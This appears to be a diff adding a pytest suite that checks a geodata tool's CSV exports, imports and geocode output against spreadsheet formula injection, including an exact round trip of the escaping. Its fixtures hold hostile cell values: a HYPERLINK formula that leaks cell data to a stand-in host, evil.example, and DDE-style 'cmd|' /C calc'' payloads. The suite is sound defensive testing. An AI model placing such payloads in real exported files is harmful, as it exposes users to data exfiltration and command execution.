@@ -1,0 +1,160 @@
+"""Exports safe to open: CSV cells a spreadsheet would evaluate, KML that hostile text cannot
+extend, GeoJSON without NaN/Infinity, HTML names that stay text (issue 15, items 1 and 2)."""
+
+from __future__ import annotations
+
+import csv
+import math
+
+import geopandas as gpd
+import pandas as pd
+import pytest
+import shapely
+from test_render_fixtures import _row
+
+from geo.cli import main
+from geo.core.io import safe
+from geo.core.records import normalize_events
+from geo.export import read_events, write_events
+
+FORMULAS = {
+    "claimant": '=HYPERLINK("http://evil.example/?"&A2,"x")',
+    "quote": "+cmd|' /C calc'!A0",
+    "place_name": "-2+3+cmd|' /C calc'!A0",
+    "source_title": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "location": "\t=1+1",
+    "resolution_reason": "\r=1+1",
+    "admin2": "'=already quoted",
+    "anchor_place": "＝1+1",
+}
+NUMBER_TEXT = {"admin1": "-37.5", "sub_event_type": "+12"}  # numbers as text: left as is
+FORMULA_START = tuple(safe.FORMULA_CHARS)
+
+
+def formula_events() -> gpd.GeoDataFrame:
+    """A row whose text cells are formulas and numbers-as-text, at a negative longitude."""
+    rows = [
+        _row("f-1", "x", "held", "x", shapely.Point(-0.1276, 51.5072)) | FORMULAS | NUMBER_TEXT,
+        _row("=f-2", "ISW", "held", "Bakhmut", shapely.Point(38.0, 48.59), quote="-"),
+    ]
+    return gpd.GeoDataFrame(rows, geometry="geometry", crs=4326)
+
+
+def csv_cells(path) -> tuple[list[str], list[list[str]]]:
+    with open(path, newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    return rows[0], rows[1:]
+
+
+def assert_no_formula(path) -> list[list[str]]:
+    header, rows = csv_cells(path)
+    cells = header + [cell for row in rows for cell in row]
+    live = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
+    assert live == [], live
+    return rows
+
+
+def _is_number(text: str) -> bool:
+    try:
+        return math.isfinite(float(text))
+    except ValueError:
+        return False
+
+
+# ---------------------------------------------------------------------------------- CSV
+
+
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd", "'+cmd"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("'=1", "''=1"),  # already quoted: one more, so reading back is exact
+        ("-37.5", "-37.5"),  # a number, as text
+        ("+1e5", "+1e5"),
+        ("-", "'-"),
+        ("plain", "plain"),
+        ("it's", "it's"),
+        (-37.5, -37.5),
+        (None, None),
+    ],
+)
+def test_cell_rule_and_its_inverse(value, written):
+    assert safe.neutralise_cell(value) == written
+    assert safe.restore_cell(written) == value
+
+
+def test_export_csv_neutralises_text_cells_and_keeps_numbers(tmp_path):
+    path = write_events(formula_events(), tmp_path / "e.csv")
+    rows = assert_no_formula(path)
+    header = csv_cells(path)[0]
+    first = dict(zip(header, rows[0], strict=True))
+    assert first["claimant"] == "'" + FORMULAS["claimant"]
+    assert first["admin2"] == "''=already quoted"
+    assert first["longitude"] == "-0.1276" and first["latitude"] == "51.5072"
+    assert first["admin1"] == "-37.5" and first["sub_event_type"] == "+12"
+    assert dict(zip(header, rows[1], strict=True))["event_id"] == "'=f-2"
+
+
+def test_csv_round_trip_undoes_exactly_the_neutralisation(tmp_path):
+    original = normalize_events(formula_events())
+    back = read_events(write_events(formula_events(), tmp_path / "e.csv"))
+    pd.testing.assert_frame_equal(
+        pd.DataFrame(back.drop(columns="geometry")), pd.DataFrame(original.drop(columns="geometry"))
+    )
+
+
+def test_every_csv_writer_neutralises(tmp_path):
+    """write_csv (control summary/panel, join links), events import/check, export."""
+    from geo.core.io import write_csv
+    from geo.events.output import write_table
+
+    table = pd.DataFrame({"=name": ["=1+1", "ok"], "lon": [-30.5, 2.0]})
+    assert_no_formula(write_csv(table, tmp_path / "plain.csv"))
+    assert csv_cells(tmp_path / "plain.csv")[1][0] == ["'=1+1", "-30.5"]
+    assert_no_formula(write_table(formula_events(), tmp_path / "table.csv"))
+
+
+def test_events_check_and_import_neutralise_the_input_cells(tmp_path, gazetteer_store):
+    table = tmp_path / "incidents.csv"
+    table.write_text(
+        "event_id,location,event_date,latitude,longitude,notes\n"
+        '1,Bakhmut,2023-03-20,48.5953,38.0004,"=HYPERLINK(""http://evil/?""&A2,""x"")"\n'
+        "2,Lyman,2023-03-21,48.9901,37.8084,+cmd|' /C calc'!A0\n",
+        encoding="utf-8",
+    )
+    report, imported = tmp_path / "report.csv", tmp_path / "imported.csv"
+    gz = ["--gazetteer", str(gazetteer_store.path), "-q"]
+    assert main(["events", "check", str(table), "-o", str(report), *gz]) == 0
+    assert main(["events", "import", str(table), "-o", str(imported), *gz]) == 0
+    for path in (report, imported):
+        rows = assert_no_formula(path)
+        assert len(rows) == 2
+    header, rows = csv_cells(report)
+    assert rows[0][header.index("notes")].startswith("'=HYPERLINK(")
+    assert rows[0][header.index("longitude")] == "38.0004"
+
+
+def test_geocode_csv_neutralises_passed_through_and_added_cells(tmp_path, gazetteer_store):
+    src, out = tmp_path / "in.csv", tmp_path / "out.csv"
+    src.write_text("place,note\nBakhmut,=1+1\n@SUM(1),-3\n", encoding="utf-8")
+    code = main(
+        ["geocode", "--gazetteer", str(gazetteer_store.path), "--csv", str(src),
+         "--name-col", "place", "-o", str(out)]
+    )  # fmt: skip
+    assert code == 0
+    rows = assert_no_formula(out)
+    assert [r[0] for r in rows] == ["Bakhmut", "'@SUM(1)"]
+    assert rows[0][1] == "'=1+1" and rows[1][1] == "-3"
+
+
+def test_csv_cell_with_a_lone_carriage_return_stays_in_its_row(tmp_path):
+    events = formula_events()
+    events.loc[1, "quote"] = "line one\rline two\r\nline three\n"
+    path = write_events(events, tmp_path / "e.csv")
+    assert len(csv_cells(path)[1]) == 2
+    assert read_events(path)["quote"].tolist()[1] == "line one\rline two\r\nline three\n"
